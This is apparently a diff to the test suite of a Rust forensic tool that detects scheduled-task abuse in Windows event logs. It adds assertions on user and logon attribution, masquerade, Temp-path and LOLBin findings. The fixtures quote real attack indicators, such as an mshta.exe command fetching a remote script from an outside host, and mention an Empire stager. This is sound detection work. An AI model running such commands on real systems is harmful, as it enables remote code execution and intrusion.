@@ -130,12 +130,33 @@ fn otrf_remote_modification_and_full_run_chain() {
         assert!(r.contains(&want), "{want:?} in {r:?}");
     }
     assert!(t.runs.is_empty(), "no run of the modified task inside the capture");
+    // Who changed it, from where: the 4702's logon session is pgustavo's network logon.
+    let u = &t.life[1];
+    assert_eq!(
+        (u.user.as_deref(), u.logon_id, u.remote, u.remote_source.as_deref()),
+        (Some(r"THESHIRE\pgustavo"), Some(0xec0ba8f), true, Some("172.18.39.5"))
+    );
+    assert_eq!(u.who(), r"by THESHIRE\pgustavo (logon 0xec0ba8f) from 172.18.39.5");
+    assert_eq!(t.life[0].image.as_deref(), Some(r"C:\windows\system32\svchost.exe"));
     // Only an update was seen (4702): the evidence says so.
     assert!(t.creation.by_update);
     let detail = |want: TaskReason| t.findings.iter().find(|f| f.reason == want).map(|f| f.detail.as_str());
     assert_eq!(
         detail(TaskReason::RemoteCreation),
         Some("updated remotely from 172.18.39.5")
+    );
+    assert_eq!(
+        detail(TaskReason::BuiltinModified),
+        Some(
+            r"a built-in task path was updated by THESHIRE\pgustavo (logon 0xec0ba8f) from 172.18.39.5 at 2020-12-19T12:50:49.220000Z (Security 4702)"
+        )
+    );
+    // A built-in's path, running a bare `powershell` and authored by the user: masquerade.
+    assert_eq!(
+        detail(TaskReason::Masquerade),
+        Some(
+            r"\Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager is under \Microsoft\, but its action powershell is a bare name, not a path under System32 and its author THESHIRE\pgustavo is not Microsoft"
+        )
     );
     // The Empire stager's action: hidden window, and the encoded command decoded although the
     // 4702 XML was truncated inside it.
@@ -302,6 +323,16 @@ mod evtx {
         assert_eq!(t.creation.user.as_deref(), Some(r"EXAMPLE\Administrator"));
         assert_eq!(t.creation.logon_id, Some(0x17e2d2));
         assert!(t.creation.evidence.iter().any(|e| e.contains("atsvc")));
+        // Created and deleted in the same remote logon session: no other-session finding.
+        let sessions: Vec<_> = t.life.iter().map(|l| (l.what, l.logon_id, l.remote)).collect();
+        assert_eq!(
+            sessions,
+            [
+                (LifeKind::Created, Some(0x17e2d2), true),
+                (LifeKind::Deleted, Some(0x17e2d2), true)
+            ]
+        );
+        assert!(!reasons(t).contains(&TaskReason::DeletedFromOtherSession));
         assert!(t.hidden);
         assert!(t.short_lived);
         assert_eq!(t.created, Some(ts("2019-03-19T00:02:04.319945Z")));
@@ -370,6 +401,19 @@ mod evtx {
                 .iter()
                 .any(|f| f.reason == TaskReason::ScriptHost && f.process == r.launched)
         );
+        let writable: Vec<_> = t
+            .findings
+            .iter()
+            .filter(|f| f.reason == TaskReason::UserWritablePath)
+            .map(|f| f.detail.as_str())
+            .collect();
+        assert_eq!(
+            writable,
+            [
+                r"the action uses a path under Temp: %windir%\Temp\bouWFQYO.tmp",
+                r"cmd.exe uses a path under Temp: C:\Windows\Temp\bouWFQYO.tmp"
+            ]
+        );
         let link = lin
             .task_for_process("fs01", 5188u32, ts("2021-06-10T21:21:27Z"))
             .unwrap();
@@ -394,6 +438,13 @@ mod evtx {
         assert_eq!(
             d.exec(),
             Some(("mshta.exe", Some("https://hotelesms.com/Injection.txt")))
+        );
+        assert_eq!(
+            t.findings
+                .iter()
+                .find(|f| f.reason == TaskReason::Lolbin)
+                .map(|f| f.detail.as_str()),
+            Some("the action runs mshta.exe, a LOLBin: mshta.exe https://hotelesms.com/Injection.txt")
         );
         let kinds: Vec<_> = t.life.iter().map(|l| (l.what, l.ts)).collect();
         assert_eq!(
@@ -500,14 +551,25 @@ mod evtx {
         let creator = &h.processes[t.creation.process.as_ref().unwrap().id];
         assert_eq!(creator.pid, Some(3876));
         assert_eq!(creator.parent_image.as_deref(), Some(r"C:\Python27\python.exe"));
-        let kinds: Vec<_> = t.life.iter().map(|l| l.what).collect();
+        let kinds: Vec<_> = t
+            .life
+            .iter()
+            .map(|l| {
+                (
+                    l.what,
+                    l.user.as_deref(),
+                    l.image.as_deref().map(|i| i.rsplit('\\').next().unwrap_or(i)),
+                )
+            })
+            .collect();
+        let ie = Some(r"IEWIN7\IEUser");
         assert_eq!(
             kinds,
             [
-                LifeKind::Created,
-                LifeKind::FileWritten,
-                LifeKind::RunRequested,
-                LifeKind::Deleted
+                (LifeKind::Created, ie, Some("schtasks.exe")),
+                (LifeKind::FileWritten, None, Some("svchost.exe")),
+                (LifeKind::RunRequested, ie, Some("schtasks.exe")),
+                (LifeKind::Deleted, ie, Some("schtasks.exe"))
             ]
         );
         assert!(t.short_lived);
@@ -551,6 +613,7 @@ mod evtx {
             .map(|&i| h.processes[i].image_name().unwrap())
             .collect();
         assert_eq!(images, ["taskhostw.exe", "cmd.exe"]);
+        assert!(h.unattributed_runs[0].candidates.is_empty(), "no task events at all");
     }
 
     /// `schtasks /create /sc minute /mo 1 /ru SYSTEM` (4688) + its 4698 with `PT1M`; and `at`.
